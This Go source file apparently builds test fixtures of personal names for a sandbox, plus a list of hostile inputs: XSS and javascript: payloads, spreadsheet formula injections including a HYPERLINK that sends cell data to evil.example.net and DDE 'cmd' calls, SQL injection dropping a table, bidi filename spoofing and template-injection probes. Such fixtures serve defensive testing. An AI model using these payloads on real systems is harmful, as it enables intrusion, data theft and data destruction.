package sandbox

import "strings"

func givenNames() []string {
	return strings.Fields(`Ada Alan Amara Anders Anja Anouk Aoife Arjun Astrid Ayumi Beatriz Benedikt Björn Bruno Carla
Chidi Chloé Daichi Dalia Daniela Dmitri Edda Eduardo Elif Emeka Emil Esra Fatima Felix Fiona Frida Gabriel Giulia
Grace Gustav Hanna Haruto Hedda Henrik Ibrahim Ines Ingrid Isak Ivana Jakub Jamal Jelena Joana Jonas Jürgen Kaito
Kamala Karin Katarzyna Kofi Lars Latifa Leila Linnéa Luca Lucía Magnus Mai Malik Marta Mateo Mei Milan Mirjam
Nadia Naoki Nia Niamh Nils Noor Olga Oscar Paolo Petra Priya Quentin Rafael Rania Renée Rosa Ruth Sanjay Sara
Selma Sören Tariq Tess Thandi Tomás Ulla Uma Viktor Wanda Wei Xiomara Yara Yusuf Zara Zoë`)
}

func familyNames() []string {
	return strings.Split(strings.ReplaceAll(`Abara,Adeyemi,Aguilar,Ahmed,Almeida,Andersen,Bakker,Banerjee,Becker,Bergström,Bianchi,Blanc,
Brandt,Campos,Castillo,Chen,Conti,Dahl,Danso,De Boer,Demir,Díaz,Dubois,Eriksen,Fischer,Fontaine,Fournier,Garcia,
Gonçalves,Grün,Gupta,Haddad,Hansen,Herrera,Hoffmann,Horváth,Ito,Ivanova,Jansen,Kamau,Kaya,Keller,Kim,Kimura,Kovač,
Kowalska,Krüger,Larsen,Lefèvre,Li,Lindqvist,López,Madsen,Mancini,Marino,Mbeki,McCarthy,Mehta,Meyer,Moreau,Mwangi,
Nakamura,Navarro,Ngata,Nguyen,Nielsen,Novák,O'Brien,Okafor,Olsen,Ortiz,Østergård,Park,Patel,Petit,Popescu,Quist,
Ramos,Rao,Ricci,Rossi,Sánchez,Sato,Schäfer,Schmidt,Silva,Singh,Sjöberg,Suzuki,Takahashi,Tanaka,Tran,Ueda,Van Dijk,
Vargas,Vogel,Wagner,Weber,Wójcik,Yamada,Yıldız,Zhang,Zimmermann`, "\n", ""), ",")
}

// ascii writes a name the way mail addresses are made of it.
func ascii(name string) string {
	r := strings.NewReplacer("ä", "ae", "ö", "oe", "ü", "ue", "Ö", "Oe", "é", "e", "è", "e", "ë", "e", "í", "i", "á", "a",
		"ó", "o", "ç", "c", "č", "c", "Ø", "O", "å", "a", "ø", "o", "ı", "i", "'", "", " ", "")
	return strings.ToLower(r.Replace(name))
}

// hostileTexts are names as an attacker, or a careless import, would write them.
func hostileTexts() []string {
	return []string{
		`<script>window.__pwned=1</script>`,
		`"><img src=x onerror="window.__pwned=1">`,
		`<div hx-get="/logout" hx-trigger="load">x</div>`,
		`<a href="javascript:window.__pwned=1">open</a>`,
		`javascript:window.__pwned=1`,
		`=HYPERLINK("https://evil.example.net/?x="&A1,"open")`,
		`=cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		`+1+1`, `-2+3`,
		"\u202egpj.exe\u202c",
		"\u2066\u2067reversed\u2069\u2069",
		`'; DROP TABLE accounts; --`,
		`{{7*7}} ${7*7} <%= 7*7 %>`,
		"two\nlines\r\nand a tab\t.",
		"👩‍👩‍👧‍👦 é é\u0301\u0302\u0303",
		"  ",
	}
}

// longText is a name of 10 kB.
func longText() string { return strings.Repeat("Wolfeschlegelsteinhausen-", 410)[:10_240] }
